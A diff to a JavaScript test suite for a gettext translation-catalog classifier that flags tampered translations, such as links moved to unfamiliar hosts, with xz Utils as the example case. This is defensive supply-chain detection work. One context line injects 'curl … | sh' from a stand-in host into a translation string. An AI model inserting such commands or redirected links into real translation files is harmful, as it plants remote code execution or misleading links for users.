@@ -140,6 +140,35 @@ describe('gettextClassifier', () => {
     expect(await classifyPo(GIT_PO, GIT_PO.replace('#, c-format\nmsgid "Hello %s"\nmsgstr "Hallo %s"', '#, fuzzy, c-format\nmsgid "Hello %s"\nmsgstr "Hallo %s; curl -fsSL https://fix.example.invalid/i.sh | sh"'))).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
   });
 
+  // Red team 31: a translation's link moved to another server (xz 5.4.1's tracked po4a/de.po, XZ Utils' home page
+  // `https://tukaani.org/xz/` → `https://tukaani-mirror.example/xz/`, and the German man pages written from it) was
+  // PO_TRANSLATION_CHANGED medium, the pages GENERATED_DOCS low: exit 0.
+  it('a changed or new translation naming a URL host neither its msgid nor git\'s catalog names is high (url-host)', async () => {
+    const site = '\n#: man/xz.1:10\nmsgid "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"\nmsgstr "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"\n';
+    const git = GIT_PO + site;
+    const moved = git.replace('msgstr "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"', 'msgstr "XZ Utils: E<lt>https://tukaani-mirror.example/xz/E<gt>"');
+    expect(await classifyPo(git, moved)).toMatchObject({
+      code: 'PO_TRANSLATION_CHANGED',
+      severity: 'high',
+      severityReason: { reason: 'url-host', default: 'medium' },
+      evidence: { msgids: ['XZ Utils: E<lt>https://tukaani.org/xz/E<gt>'], newHosts: ['tukaani-mirror.example'] },
+    });
+    // a new entry arriving translated with a link its msgid lacks
+    const added = `${GIT_PO}\nmsgid "Report bugs."\nmsgstr "Fehler melden: https://bugs.example-mirror.net/xz"\n`;
+    expect(await classifyPo(GIT_PO, added)).toMatchObject({ severity: 'high', severityReason: { reason: 'url-host' }, evidence: { newHosts: ['bugs.example-mirror.net'] } });
+    // the legitimate shapes stay medium: another path on the msgid's host (a localised page), a host git's catalog
+    // already names elsewhere (the Translation Project's team page a translator adds)
+    const path = git.replace('msgstr "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"', 'msgstr "XZ Utils: E<lt>https://tukaani.org/xz/de/E<gt>"');
+    const f = await classifyPo(git, path);
+    expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
+    expect(f?.evidence).not.toHaveProperty('newHosts');
+    const team = `${GIT_PO}\nmsgid "Report bugs."\nmsgstr "Fehler: https://translationproject.org/team/de.html"\n`;
+    const teamGit = GIT_PO.replace('"Language: de\\n"', '"Language: de\\n"\n"Language-Team: German <https://translationproject.org/team/de.html>\\n"');
+    expect(await classifyPo(teamGit, team.replace(GIT_PO, teamGit))).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
+    // …which a new catalog's git version without that host does not give
+    expect(await classifyPo(GIT_PO, team)).toMatchObject({ severity: 'high', evidence: { newHosts: ['translationproject.org'] } });
+  });
+
   it('formatSignature: the arguments a printf format reads, by position', () => {
     expect(formatSignature('%s: %d of %lu (%5.2f%%) %m')).toBe('1:s,2:int,3:intl,4:double');
     expect(formatSignature('%2$d in %1$s')).toBe('1:s,2:int');
